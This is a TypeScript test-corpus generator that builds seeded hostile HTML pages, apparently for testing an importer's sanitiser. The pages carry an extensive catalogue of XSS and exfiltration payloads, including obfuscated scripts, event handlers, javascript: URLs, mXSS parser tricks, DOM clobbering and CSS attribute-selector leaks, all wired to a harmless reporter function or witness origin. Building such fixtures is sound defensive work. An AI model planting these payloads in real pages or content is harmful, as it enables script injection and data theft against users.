// The hostile web pages of the hostile-html trust program: script tags plain and obfuscated, event
// handler attributes (every one, across the corpus), javascript:/data:/vbscript: URLs in every
// attribute that takes one, SVG and MathML tricks, meta refresh, <base>, frames, objects and
// embeds, CSS exfiltration, DOM clobbering, noscript/template/mXSS parser differentials, form and
// button tricks, link prefetch/preload, srcdoc, and markup in the metadata an importer keeps.
// Each payload reports itself if it ever runs: it calls __hostile('<page id>:<kind>') (a function
// the program defines in every frame) or requests WITNESS/<page id>/<kind>, so every execution,
// request and navigation says which page caused it. Seeded: the same seed gives the same pages.
// Never meant to be opened anywhere but in the program's own browser.
import { rng, type Rng } from './rng.js';

export interface HostilePage {
  /** "hp-007": in the title, the text and every report the payloads send. */
  id: string;
  /** The file name it is imported under. */
  filename: string;
  html: string;
  /** The payload kinds it carries. */
  kinds: string[];
}

/** A payload: where its markup goes, given the page id (I) and the witness origin (W). */
interface Payload {
  kind: string;
  head?: string;
  body?: string;
  bodyAttributes?: string;
  /** Builds the whole page around the article instead. */
  page?: (article: string, title: string) => string;
}

/** Every event handler content attribute of HTML's GlobalEventHandlers and WindowEventHandlers, and SVG's. */
export const EVENT_HANDLERS = [
  'onabort', 'onafterprint', 'onanimationcancel', 'onanimationend', 'onanimationiteration', 'onanimationstart', 'onauxclick',
  'onbeforeinput', 'onbeforematch', 'onbeforeprint', 'onbeforetoggle', 'onbeforeunload', 'onbegin', 'onblur', 'oncancel',
  'oncanplay', 'oncanplaythrough', 'onchange', 'onclick', 'onclose', 'oncontentvisibilityautostatechange', 'oncontextlost',
  'oncontextmenu', 'oncontextrestored', 'oncopy', 'oncuechange', 'oncut', 'ondblclick', 'ondrag', 'ondragend', 'ondragenter',
  'ondragleave', 'ondragover', 'ondragstart', 'ondrop', 'ondurationchange', 'onemptied', 'onend', 'onended', 'onerror', 'onfocus',
  'onfocusin', 'onfocusout', 'onformdata', 'onfullscreenchange', 'onfullscreenerror', 'ongotpointercapture', 'onhashchange',
  'oninput', 'oninvalid', 'onkeydown', 'onkeypress', 'onkeyup', 'onlanguagechange', 'onload', 'onloadeddata',
  'onloadedmetadata', 'onloadstart', 'onlostpointercapture', 'onmessage', 'onmessageerror', 'onmousedown', 'onmouseenter',
  'onmouseleave', 'onmousemove', 'onmouseout', 'onmouseover', 'onmouseup', 'onmousewheel', 'onoffline', 'ononline',
  'onpagehide', 'onpagereveal', 'onpageshow', 'onpageswap', 'onpaste', 'onpause', 'onplay', 'onplaying', 'onpointercancel',
  'onpointerdown', 'onpointerenter', 'onpointerleave', 'onpointermove', 'onpointerout', 'onpointerover', 'onpointerrawupdate',
  'onpointerup', 'onpopstate', 'onprogress', 'onratechange', 'onrejectionhandled', 'onrepeat', 'onreset', 'onresize',
  'onscroll', 'onscrollend', 'onsearch', 'onsecuritypolicyviolation', 'onseeked', 'onseeking', 'onselect', 'onselectionchange',
  'onselectstart', 'onshow', 'onslotchange', 'onstalled', 'onstart', 'onstorage', 'onsubmit', 'onsuspend', 'ontimeupdate',
  'ontoggle', 'ontouchcancel', 'ontouchend', 'ontouchmove', 'ontouchstart', 'ontransitioncancel', 'ontransitionend',
  'ontransitionrun', 'ontransitionstart', 'onunhandledrejection', 'onunload', 'onvolumechange', 'onwaiting', 'onwebkitanimationend',
  'onwebkitanimationiteration', 'onwebkitanimationstart', 'onwebkittransitionend', 'onwheel', 'onzoom',
] as const;

const call = (id: string, kind: string): string => `__hostile('${id}:${kind}')`;
/** The same call for inside a double-quoted attribute. */
const attr = (id: string, kind: string): string => call(id, kind);
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const escapeAttr = (s: string): string => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** The payload kinds, each a function of page id and witness origin. */
const PAYLOADS: ((id: string, w: string) => Payload)[] = [
  // ── Script tags, plain and obfuscated ──
  (i) => ({ kind: 'script-inline', body: `<script>${call(i, 'script-inline')}</script>` }),
  (i) => ({ kind: 'script-in-head', head: `<script>${call(i, 'script-in-head')}</script>` }),
  (i) => ({ kind: 'script-concat', body: `<script>window['__hos'+'tile']('${i}:script-concat')</script>` }),
  (i) => ({ kind: 'script-eval-base64', body: `<script>eval(atob('${b64(call(i, 'script-eval-base64'))}'))</script>` }),
  (i) => ({ kind: 'script-unicode-escapes', body: `<script>\\u005f\\u005fhostile('${i}:script-unicode-escapes')</script>` }),
  (i) => ({ kind: 'script-settimeout-string', body: `<script>setTimeout("${call(i, 'script-settimeout-string').replace(/'/g, "\\'")}", 0)</script>` }),
  (i) => ({ kind: 'script-function-constructor', body: `<script>new Function(atob('${b64(call(i, 'script-function-constructor'))}'))()</script>` }),
  (i) => ({ kind: 'script-mixed-case', body: `<ScRiPt TyPe="TeXt/JaVaScRiPt">${call(i, 'script-mixed-case')}</sCrIpT>` }),
  (i) => ({ kind: 'script-slash-attribute', body: `<script/x>${call(i, 'script-slash-attribute')}</script>` }),
  (i, w) => ({ kind: 'script-src', head: `<script src="${w}/${i}/script-src.js"></script>` }),
  (i) => ({ kind: 'script-src-data', body: `<script src="data:text/javascript,${encodeURIComponent(call(i, 'script-src-data'))}"></script>` }),
  (i, w) => ({ kind: 'script-module-import', body: `<script type="module">import('${w}/${i}/module.js').catch(()=>0);${call(i, 'script-module-import')}</script>` }),
  (i) => ({ kind: 'script-after-comment', body: `<!--<script>--><script>${call(i, 'script-after-comment')}</script>` }),
  (i) => ({ kind: 'script-json-ld-breakout', head: `<script type="application/ld+json">{"@type":"NewsArticle","headline":"</script><script>${call(i, 'script-json-ld-breakout')}</script>"}</script>` }),
  (i, w) => ({ kind: 'script-document-write', body: `<script>document.write('<img src="${w}/${i}/document-write">');${call(i, 'script-document-write')}</script>` }),
  (i, w) => ({ kind: 'script-window-open', body: `<script>window.open('${w}/${i}/popup');</script>` }),
  (i, w) => ({ kind: 'script-location', body: `<script>setTimeout(function(){location.href='${w}/${i}/location'},30)</script>` }),
  (i, w) => ({ kind: 'script-beacon', body: `<script>navigator.sendBeacon('${w}/${i}/beacon','x');fetch('${w}/${i}/fetch').catch(function(){})</script>` }),
  (i) => ({ kind: 'script-alert', body: `<script>alert('${i}:script-alert')</script>` }),

  // ── Event handlers that fire on their own ──
  (i) => ({ kind: 'img-onerror', body: `<img src=x onerror="${attr(i, 'img-onerror')}">` }),
  (i) => ({ kind: 'img-onerror-entities', body: `<img src=x onerror=&#95;&#95;hostile(&#39;${i}:img-onerror-entities&#39;)>` }),
  (i) => ({ kind: 'svg-onload', body: `<svg onload="${attr(i, 'svg-onload')}"><rect width="1" height="1"/></svg>` }),
  (i) => ({ kind: 'body-onload', bodyAttributes: `onload="${attr(i, 'body-onload')}"` }),
  (i) => ({ kind: 'body-onpageshow', bodyAttributes: `onpageshow="${attr(i, 'body-onpageshow')}"` }),
  (i) => ({ kind: 'autofocus-onfocus', body: `<input autofocus onfocus="${attr(i, 'autofocus-onfocus')}">` }),
  (i) => ({ kind: 'custom-tag-onfocus', body: `<xss id=x tabindex=1 autofocus onfocusin="${attr(i, 'custom-tag-onfocus')}">x</xss>` }),
  (i) => ({ kind: 'details-ontoggle', body: `<details open ontoggle="${attr(i, 'details-ontoggle')}"><summary>More</summary>x</details>` }),
  (i) => ({ kind: 'video-onerror', body: `<video src=x onerror="${attr(i, 'video-onerror')}"></video><audio src=x onerror="${attr(i, 'audio-onerror')}"></audio>` }),
  (i) => ({ kind: 'source-onerror', body: `<video><source src=x onerror="${attr(i, 'source-onerror')}"></video>` }),
  (i) => ({ kind: 'object-onerror', body: `<object data=x onerror="${attr(i, 'object-onerror')}"></object>` }),
  (i) => ({ kind: 'iframe-onload', body: `<iframe onload="${attr(i, 'iframe-onload')}"></iframe>` }),
  (i) => ({ kind: 'style-onload', body: `<style onload="${attr(i, 'style-onload')}">p{}</style>` }),
  (i) => ({ kind: 'link-onerror', head: `<link rel=stylesheet href=x onerror="${attr(i, 'link-onerror')}">` }),
  (i) => ({ kind: 'input-image-onerror', body: `<input type=image src=x onerror="${attr(i, 'input-image-onerror')}">` }),
  (i) => ({ kind: 'svg-animate-onbegin', body: `<svg><animate onbegin="${attr(i, 'svg-animate-onbegin')}" attributeName=x dur=1s /></svg>` }),
  (i) => ({ kind: 'marquee-onstart', body: `<marquee onstart="${attr(i, 'marquee-onstart')}">x</marquee>` }),
  (i) => ({ kind: 'css-animation-onanimationstart', body: `<style>@keyframes k{from{opacity:1}to{opacity:.9}}</style><p style="animation:k 1s" onanimationstart="${attr(i, 'css-animation-onanimationstart')}">x</p>` }),
  (i) => ({ kind: 'button-onclick', body: `<button onclick="${attr(i, 'button-onclick')}">Read more</button>` }),

  // ── URLs with javascript:, data:, vbscript: in every attribute that takes one ──
  (i) => ({ kind: 'a-href-javascript', body: `<a href="javascript:${attr(i, 'a-href-javascript')}">Full report</a>` }),
  (i) => ({ kind: 'a-href-javascript-entities', body: `<a href="&#106;avascript&#58;${attr(i, 'a-href-javascript-entities')}">Source</a>` }),
  (i) => ({ kind: 'a-href-javascript-tab', body: `<a href="jav&#x09;ascript:${attr(i, 'a-href-javascript-tab')}">Archive</a>` }),
  (i) => ({ kind: 'a-href-javascript-leading-space', body: `<a href=" JaVaScRiPt:${attr(i, 'a-href-javascript-leading-space')}">Map</a>` }),
  (i) => ({ kind: 'area-href-javascript', body: `<map name="m${i}"><area shape="default" href="javascript:${attr(i, 'area-href-javascript')}"></map><img usemap="#m${i}" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="20" height="20">` }),
  (i) => ({ kind: 'iframe-src-javascript', body: `<iframe src="javascript:parent.${attr(i, 'iframe-src-javascript')}"></iframe>` }),
  (i, w) => ({ kind: 'iframe-src-data', body: `<iframe src="data:text/html;base64,${b64(`<script>new Image().src='${w}/${i}/iframe-src-data'</script>`)}"></iframe>` }),
  (i) => ({ kind: 'form-action-javascript', body: `<form action="javascript:${attr(i, 'form-action-javascript')}"><input type=submit value=Send></form>` }),
  (i) => ({ kind: 'button-formaction-javascript', body: `<form><button formaction="javascript:${attr(i, 'button-formaction-javascript')}">Go</button></form>` }),
  (i, w) => ({ kind: 'img-srcset', body: `<img srcset="${w}/${i}/srcset.png 1x, ${w}/${i}/srcset2.png 2x">` }),
  (i) => ({ kind: 'svg-xlink-href-javascript', body: `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:${attr(i, 'svg-xlink-href-javascript')}"><text x="10" y="20">map</text></a></svg>` }),
  (i) => ({ kind: 'object-data-javascript', body: `<object data="javascript:parent.${attr(i, 'object-data-javascript')}"></object>` }),
  (i) => ({ kind: 'embed-src-javascript', body: `<embed src="javascript:parent.${attr(i, 'embed-src-javascript')}">` }),
  (i) => ({ kind: 'vbscript-urls', body: `<a href="vbscript:MsgBox(&quot;${i}&quot;)">vb</a><img src="vbscript:MsgBox(1)">` }),
  (i) => ({ kind: 'a-href-data-html', body: `<a href="data:text/html;base64,${b64(`<script>opener&&opener.${call(i, 'a-href-data-html')}</script>`)}">Attachment</a>` }),
  (i) => ({ kind: 'math-href-javascript', body: `<math href="javascript:${attr(i, 'math-href-javascript')}"><mtext>formula</mtext></math>` }),
  (i, w) => ({ kind: 'video-poster', body: `<video poster="${w}/${i}/poster.png"></video>` }),
  (i, w) => ({ kind: 'table-background', body: `<table background="${w}/${i}/table-background.png"><tr><td>cell</td></tr></table>` }),
  (i, w) => ({ kind: 'a-ping', body: `<a href="#${i}" ping="${w}/${i}/ping">Note</a>` }),
  (i, w) => ({ kind: 'input-image-src', body: `<input type=image src="${w}/${i}/input-image.png">` }),

  // ── SVG and MathML tricks ──
  (i) => ({ kind: 'svg-script', body: `<svg><script>${call(i, 'svg-script')}</script></svg>` }),
  (i) => ({ kind: 'svg-foreignobject', body: `<svg><foreignObject width="10" height="10"><img src=x onerror="${attr(i, 'svg-foreignobject')}"></foreignObject></svg>` }),
  (i) => ({ kind: 'svg-animate-to-href', body: `<svg><a><animate attributeName="href" values="javascript:${attr(i, 'svg-animate-to-href')}" /><text x="20" y="20">open</text></a></svg>` }),
  (i) => ({ kind: 'svg-set-href', body: `<svg><a><set attributeName="href" to="javascript:${attr(i, 'svg-set-href')}" /><text x="20" y="20">view</text></a></svg>` }),
  (i, w) => ({ kind: 'svg-image-href', body: `<svg><image href="${w}/${i}/svg-image.png" width="1" height="1"/></svg>` }),
  (i, w) => ({ kind: 'svg-use-data', body: `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="${w}/${i}/svg-use"/></svg>`)}#x"/></svg>` }),
  (i) => ({ kind: 'svg-style-breakout', body: `<svg><style><img src=x onerror="${attr(i, 'svg-style-breakout')}"></style></svg>` }),
  (i) => ({ kind: 'mathml-maction', body: `<math><maction actiontype="statusline" xlink:href="javascript:${attr(i, 'mathml-maction')}">x<mtext>y</mtext></maction></math>` }),
  (i) => ({ kind: 'mathml-mglyph-style', body: `<math><mtext><table><mglyph><style><img src=x onerror="${attr(i, 'mathml-mglyph-style')}">` }),

  // ── Meta refresh, base ──
  (i, w) => ({ kind: 'meta-refresh', head: `<meta http-equiv="refresh" content="0;url=${w}/${i}/meta-refresh">` }),
  (i) => ({ kind: 'meta-refresh-javascript', head: `<meta http-equiv="refresh" content="0;url=javascript:${attr(i, 'meta-refresh-javascript')}">` }),
  (i, w) => ({ kind: 'base-href', head: `<base href="${w}/${i}/base/">`, body: '<img src="relative.png"><a href="relative.html">rel</a>' }),

  // ── Frames, objects, embeds, srcdoc ──
  (i, w) => ({ kind: 'iframe-src', body: `<iframe src="${w}/${i}/iframe"></iframe>` }),
  (i) => ({ kind: 'iframe-srcdoc', body: `<iframe srcdoc="${escapeAttr(`<script>parent.${call(i, 'iframe-srcdoc')}</script>`)}"></iframe>` }),
  (i, w) => ({ kind: 'object-data', body: `<object data="${w}/${i}/object.html" type="text/html"></object>` }),
  (i, w) => ({ kind: 'embed-src', body: `<embed src="${w}/${i}/embed.html" type="text/html">` }),
  (i, w) => ({
    kind: 'frameset',
    page: (article, title) => `<!doctype html><html><head><title>${title}</title></head><frameset cols="50%,50%"><frame src="${w}/${i}/frame"><frame src="javascript:parent.${call(i, 'frameset-javascript')}"><noframes><body>${article}</body></noframes></frameset></html>`,
  }),

  // ── CSS exfiltration ──
  (i, w) => ({ kind: 'css-background-image', head: `<style>body{background-image:url(${w}/${i}/css-background.png)}</style>` }),
  (i, w) => ({ kind: 'css-import', head: `<style>@import url(${w}/${i}/css-import.css);</style>` }),
  (i, w) => ({ kind: 'css-font-face', head: `<style>@font-face{font-family:leak;src:url(${w}/${i}/font.woff)}p{font-family:leak}</style>` }),
  (i, w) => ({ kind: 'css-attribute-selector', head: `<style>input[value^="s"]{background:url(${w}/${i}/attr-s)}input[value^="t"]{background:url(${w}/${i}/attr-t)}</style>`, body: '<input value="secret-token">' }),
  (i, w) => ({ kind: 'css-inline-style', body: `<div style="background:url(${w}/${i}/inline-style.png);width:5px;height:5px"></div>` }),
  (i, w) => ({ kind: 'link-stylesheet', head: `<link rel="stylesheet" href="${w}/${i}/link.css">` }),
  (i, w) => ({ kind: 'css-list-style-image', body: `<ul style="list-style-image:url(${w}/${i}/list.png)"><li>item</li></ul>` }),
  (i, w) => ({ kind: 'css-cursor-border-image', body: `<p style="cursor:url(${w}/${i}/cursor.png),auto;border:4px solid;border-image:url(${w}/${i}/border.png) 30">x</p>` }),
  (i) => ({ kind: 'css-expression', body: `<div style="width:expression(${call(i, 'css-expression')})">x</div>` }),

  // ── DOM clobbering ──
  (i) => ({ kind: 'dom-clobbering', body: `<img name="getElementById"><form id="corroborate"><input name="openNotebook"></form><a id="root"></a><img id="token" name="token"><form name="location"></form><a id="__hostile" href="javascript:${attr(i, 'dom-clobbering')}">c</a>` }),
  (i) => ({ kind: 'dom-clobbering-config', body: `<a id="defaultConfig"></a><a id="defaultConfig" name="src" href="javascript:${attr(i, 'dom-clobbering-config')}">cfg</a><form id="document"><input id="cookie"></form>` }),

  // ── noscript, template, mXSS parser differentials ──
  (i) => ({ kind: 'noscript-mxss', body: `<noscript><p title="</noscript><img src=x onerror=${call(i, 'noscript-mxss')}>"></p></noscript>` }),
  (i) => ({ kind: 'template-img', body: `<template><img src=x onerror="${attr(i, 'template-img')}"><script>${call(i, 'template-script')}</script></template>` }),
  (i) => ({ kind: 'svg-p-style-mxss', body: `<svg></p><style><a id="</style><img src=1 onerror=${call(i, 'svg-p-style-mxss')}>">` }),
  (i) => ({ kind: 'form-math-mxss', body: `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${attr(i, 'form-math-mxss')}">` }),
  (i) => ({ kind: 'comment-breakout', body: `<!--><img src=x onerror="${attr(i, 'comment-breakout')}">-->` }),
  (i) => ({ kind: 'cdata-breakout', body: `<![CDATA[><img src=x onerror="${attr(i, 'cdata-breakout')}">]]>` }),
  (i) => ({ kind: 'textarea-title-breakout', body: `<textarea><img src=x onerror="${attr(i, 'textarea-inside')}"></textarea><title></title><img src=x onerror="${attr(i, 'after-title')}">` }),

  // ── Forms and buttons ──
  (i, w) => ({ kind: 'form-post-witness', body: `<form id="f${i}" method="post" action="${w}/${i}/form-post"><input name="q" value="1"></form><button form="f${i}">Submit</button>` }),
  (i, w) => ({ kind: 'input-formaction', body: `<form><input type=submit formaction="${w}/${i}/formaction" value="Go"></form>` }),
  (i) => ({ kind: 'isindex', body: `<isindex action="javascript:${attr(i, 'isindex')}" type="image">` }),

  // ── link rel prefetch, preload, icon, import ──
  (i, w) => ({ kind: 'link-prefetch', head: `<link rel="prefetch" href="${w}/${i}/prefetch">` }),
  (i, w) => ({ kind: 'link-preload', head: `<link rel="preload" as="image" href="${w}/${i}/preload.png">` }),
  (i, w) => ({ kind: 'link-modulepreload', head: `<link rel="modulepreload" href="${w}/${i}/modulepreload.js">` }),
  (i, w) => ({ kind: 'link-icon', head: `<link rel="icon" href="${w}/${i}/icon.png">` }),
  (i, w) => ({ kind: 'link-import', head: `<link rel="import" href="${w}/${i}/import.html">` }),

  // ── Markup in the metadata an importer keeps (title, byline, site name, canonical URL) ──
  (i) => ({
    kind: 'metadata-markup',
    head:
      `<meta property="og:title" content="Report ${i} &lt;img src=x onerror=${call(i, 'og-title')}&gt;">` +
      `<meta name="author" content="&lt;script&gt;${call(i, 'author')}&lt;/script&gt;">` +
      `<meta property="og:site_name" content="&lt;svg onload=${call(i, 'site-name')}&gt;">` +
      `<link rel="canonical" href="javascript:${attr(i, 'canonical')}">`,
  }),
];

const PARAGRAPHS = [
  'South Korean officials said on Friday that thousands of containers of artillery shells had been shipped from the port of Rajin since August, citing satellite imagery.',
  'A statement carried by the state news agency called the accusation the most absurd paradox and said the weapons tests belonged to a five-year build-up plan.',
  'Officials in Seoul said the shipments had gone by rail and by sea, and that the numbers could not be confirmed independently by the agency.',
  'The defence ministry did not respond to a request for comment on the shipments, which both governments have denied in public statements.',
  'Analysts said the imagery showed the same vessels calling at the port several times, and that the cargo handling matched earlier transfers.',
];

/** Every page carries one handler-soup element: a slice of EVENT_HANDLERS, so the corpus covers all of them. */
function handlerSoup(id: string, index: number, per: number): string {
  const start = (index * per) % EVENT_HANDLERS.length;
  const names = Array.from({ length: per }, (_, k) => EVENT_HANDLERS[(start + k) % EVENT_HANDLERS.length]!);
  return `<div tabindex="0" ${names.map((n) => `${n}="${attr(id, `handler-${n}`)}"`).join(' ')}>handlers</div>`;
}

function article(id: string, r: Rng, inside: string[]): string {
  const paragraphs = Array.from({ length: 4 }, (_, k) => `<p>${PARAGRAPHS[(r.int(PARAGRAPHS.length) + k) % PARAGRAPHS.length]} (Reference ${id}, paragraph ${k + 1}.)</p>`);
  // Payloads sit between the paragraphs, where a sanitiser that keeps "the article" would meet them.
  const mixed = paragraphs.flatMap((p, k) => [p, ...inside.filter((_, j) => j % paragraphs.length === k)]);
  return `<article><h1>Report ${id}: shipments through Rajin</h1>${mixed.join('\n')}</article>`;
}

/**
 * `count` pages, each with the article and `perPage` payloads; the first payload of page n is kind
 * n (mod the number of kinds), so every kind appears, the rest are drawn with the seed.
 */
export function hostilePages(options: { count: number; seed: number; witness: string; perPage?: number }): HostilePage[] {
  const r = rng(options.seed);
  const perPage = options.perPage ?? 4;
  const handlersPerPage = Math.ceil(EVENT_HANDLERS.length / Math.max(1, Math.floor(options.count / 2)));
  const pages: HostilePage[] = [];
  for (let n = 0; n < options.count; n++) {
    const id = `hp-${String(n + 1).padStart(3, '0')}`;
    const chosen = [PAYLOADS[n % PAYLOADS.length]!, ...Array.from({ length: perPage - 1 }, () => r.pick(PAYLOADS))].map((p) => p(id, options.witness));
    const kinds = [...new Set(chosen.map((p) => p.kind))];
    const title = `Report ${id} &lt;img src=x onerror=${call(id, 'title')}&gt; ${kinds[0]}`;
    const body = article(id, r, [...chosen.map((p) => p.body ?? ''), handlerSoup(id, n, handlersPerPage)].filter(Boolean));
    const whole = chosen.find((p) => p.page);
    const html = whole?.page
      ? whole.page(body, title)
      : `<!doctype html>\n<html><head><meta charset="utf-8"><title>${title}</title>${chosen.map((p) => p.head ?? '').join('')}</head>` +
        `<body ${chosen.map((p) => p.bodyAttributes ?? '').join(' ')}>${body}</body></html>`;
    pages.push({ id, filename: `${id}-${kinds[0]}.html`, html, kinds: [...kinds, 'handlers'] });
  }
  return pages;
}

/** How many payload kinds the corpus draws from. */
export const PAYLOAD_KIND_COUNT = PAYLOADS.length;
